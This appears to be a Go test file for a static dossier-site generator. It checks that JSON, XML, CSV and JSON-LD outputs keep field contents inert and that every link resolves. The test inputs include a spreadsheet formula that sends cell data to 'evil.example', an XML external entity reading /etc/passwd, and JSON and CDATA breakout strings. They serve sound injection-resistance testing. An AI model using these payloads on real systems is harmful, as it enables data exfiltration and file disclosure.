package build

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"net/url"
	"os"
	"path"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"dossier/generator/internal/dossier"
	"dossier/generator/internal/output"
	"dossier/templates"
)

// takeLinked takes the JSON-LD of a page out of its tree: there is one block,
// it is JSON, of schema.org, and holds nothing a reader of HTML would see.
func takeLinked(t *testing.T, address string, doc *html.Node) {
	t.Helper()
	var found []*html.Node
	for n := range doc.Descendants() {
		if n.Type == html.ElementNode && n.Data == "script" && len(n.Attr) == 1 && attributes(n)["type"] == "application/ld+json" {
			found = append(found, n)
		}
	}
	if len(found) != 1 {
		t.Fatalf("%s: %d blocks of JSON-LD", address, len(found))
	}
	src := found[0].FirstChild.Data
	if strings.ContainsAny(src, "<>\u2028\u2029") {
		t.Errorf("%s: JSON-LD with a sign that acts: %s", address, src)
	}
	var page map[string]any
	if err := json.Unmarshal([]byte(src), &page); err != nil || page["@context"] != "https://schema.org" || page["@type"] != "WebPage" {
		t.Errorf("%s: %v: %s", address, err, src)
	}
	found[0].Parent.RemoveChild(found[0])
}

// forms are what each file for machines must be, by the ending of its name.
var forms = map[string]func(t *testing.T, f output.File) (words []string, links []string){
	".json": jsonForm, ".jsonld": jsonForm, ".xml": xmlForm, ".csv": csvForm,
	".txt": func(t *testing.T, f output.File) ([]string, []string) { return []string{string(f.Data)}, nil },
}

// TestDataPayloads: whatever stands in a field, it stays in its string, cell or
// element, and is there as it was written.
func TestDataPayloads(t *testing.T) {
	for _, payload := range append(payloads, `=HYPERLINK("http://evil.example/?"&A1)`, "-1+1 ]]> \u2028\u2029", `\", "x": 1} <!ENTITY x SYSTEM "file:///etc/passwd"> &x;`) {
		t.Run(payload, func(t *testing.T) {
			files, _ := everywhere(payload)
			r := run(t, files, 2)
			var all strings.Builder
			for _, f := range r.Files {
				form := forms[path.Ext(f.Address)]
				if form == nil {
					continue
				}
				words, links := form(t, f)
				all.WriteString(strings.Join(words, "\n") + "\n")
				for _, l := range links {
					u, err := url.Parse(l)
					if err != nil || u.Scheme != "" || u.Host != "" || !has(r.Files, path.Join(path.Dir(f.Address), u.Path)) {
						t.Errorf("%s: link %q leads to no file (%v)", f.Address, l, err)
					}
				}
			}
			for _, field := range []string{"title", "question", "rights", "byline", "role", "note", "Headline", "Body", "We will win."} {
				if want := field + " " + payload; !strings.Contains(squeeze(all.String(), true), squeeze(want, true)) {
					t.Errorf("no file holds %q", want)
				}
			}
		})
	}
}

// TestDataLinks follows every link of every file for machines, and reads back
// the JSON-LD of every page; relative ones, and absolute ones of the site.
func TestDataLinks(t *testing.T) {
	for _, base := range []string{"", "https://example.org/d/"} {
		r := runConfig(t, Config{Content: os.DirFS(shipped), Name: "test", Templates: templates.FS, BaseURL: base, Limits: dossier.DefaultLimits, Workers: 2})
		links := 0
		for _, f := range r.Files {
			form := forms[path.Ext(f.Address)]
			if form == nil {
				continue
			}
			_, found := form(t, f)
			for _, l := range found {
				to, _, _ := strings.Cut(l, "#")
				if base != "" && f.Address != "robots.txt" {
					rest, ok := strings.CutPrefix(to, base)
					if !ok {
						t.Errorf("%s: %q is not absolute", f.Address, l)
					}
					to = rest
				} else {
					to = path.Join(path.Dir(f.Address), to)
				}
				if links++; !has(r.Files, to) {
					t.Errorf("%s: link %q leads to no file", f.Address, l)
				}
			}
		}
		if links < 100 {
			t.Errorf("%d links", links)
		}
		if got := has(r.Files, "sitemap.xml"); got != (base != "") {
			t.Errorf("base %q, sitemap %v", base, got)
		}
	}
}

// jsonForm gives all strings, and those that lead to a file of the site.
func jsonForm(t *testing.T, f output.File) (words, links []string) {
	var v any
	if err := json.Unmarshal(f.Data, &v); err != nil {
		t.Errorf("%s: %v", f.Address, err)
	}
	keys := []string{"page", "ledger", "text", "annotations", "tei", "file"}
	switch {
	case path.Ext(f.Address) == ".jsonld":
		keys = []string{"source"}
	case f.Address == "feed.json":
		keys = []string{"url", "home_page_url", "feed_url"}
	}
	var walk func(key string, v any)
	walk = func(key string, v any) {
		switch v := v.(type) {
		case string:
			words = append(words, v)
			if slices.Contains(keys, key) {
				links = append(links, v)
			}
		case []any:
			for _, x := range v {
				walk(key, x)
			}
		case map[string]any:
			for k, x := range v {
				walk(k, x)
			}
		}
	}
	walk("", v)
	return words, links
}

// elements are all that our XML files hold.
var elements = strings.Fields(`TEI teiHeader fileDesc titleStmt title publicationStmt publisher availability p sourceDesc bibl author date ref note
	standOff listPerson person persName idno occupation listOrg org orgName text body div head ab fw said quote rs
	feed entry id updated published name uri link rights subtitle category content urlset url sitemapindex sitemap loc`)

func xmlForm(t *testing.T, f output.File) (words, links []string) {
	d := xml.NewDecoder(bytes.NewReader(f.Data))
	var open []string
	var all strings.Builder
	kind := ""
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return append(words, all.String()), links
		}
		if err != nil {
			t.Errorf("%s: %v", f.Address, err)
			return nil, nil
		}
		switch token := token.(type) {
		case xml.StartElement:
			if !slices.Contains(elements, token.Name.Local) {
				t.Errorf("%s: <%s>", f.Address, token.Name.Local)
			}
			open, kind = append(open, token.Name.Local), ""
			for _, a := range token.Attr {
				if kind = a.Value; a.Name.Local == "href" {
					links = append(links, a.Value)
				}
			}
		case xml.EndElement:
			open = open[:len(open)-1]
		case xml.CharData:
			all.Write(token)
			if n := len(open); n > 0 && (open[n-1] == "uri" || open[n-1] == "loc" || open[n-1] == "idno" && kind == "page") {
				links = append(links, string(token))
			}
		case xml.Comment, xml.Directive:
			t.Errorf("%s: a comment or directive", f.Address)
		}
	}
}

func csvForm(t *testing.T, f output.File) (words, links []string) {
	rows, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Errorf("%s: %v", f.Address, err)
		return nil, nil
	}
	page := slices.Index(rows[0], "page")
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("%s: a cell that acts: %q", f.Address, cell)
			}
			if i == page {
				links = append(links, cell)
			}
		}
		words = append(words, row...)
	}
	return words, links
}
